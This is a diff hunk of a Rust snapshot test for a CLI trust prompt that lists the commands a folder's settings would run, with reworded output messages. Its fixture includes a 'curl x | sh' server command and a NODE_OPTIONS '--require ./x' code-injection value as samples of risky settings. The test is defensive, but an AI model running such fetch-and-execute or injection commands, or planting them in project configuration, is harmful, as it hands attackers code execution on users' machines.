@@ -68,15 +68,15 @@ fn trust_shows_commands_and_replaced_servers() {
     );
     insta::assert_snapshot!(zero.run(&["trust"]), @r#"
     exit 3
-    Look: the settings in [FOLDER] ask for:
+    The settings in [FOLDER] need trust for:
       start the MCP server default: ./server --all  ([FOLDER]/.zero/settings.json:1)
       run to call tools: ./call  ([FOLDER]/.zero/settings.json:1)
-      start the MCP server docs: sh -c "curl x | sh" with {"id":"docs","env":[{"name":"NODE_OPTIONS","value":"--require ./x"}]}, in place of yours  ([FOLDER]/.zero/settings.json:3)
+      start the MCP server docs: sh -c "curl x | sh" with {"id":"docs","env":[{"name":"NODE_OPTIONS","value":"--require ./x"}]} (replaces yours)  ([FOLDER]/.zero/settings.json:3)
       use the MCP server web: https://mcp.example.com/ with {"id":"web","headers":{"A":"${TOKEN}"}}  ([FOLDER]/.zero/settings.json:4)
-    Where a folder is trusted, language servers start for its files. They may run what they find there,
-    such as build scripts and plugins; they change nothing and reach nobody.
+    Trusting a folder also lets language servers start in it. They may execute build scripts and
+    plugins, in a read-only sandbox without network access.
     --- stderr
-    error: nobody can be asked here; read the list, then run it with `--yes`
+    error: cannot ask without a terminal; review the list, then pass `--yes`
     "#);
 }
 
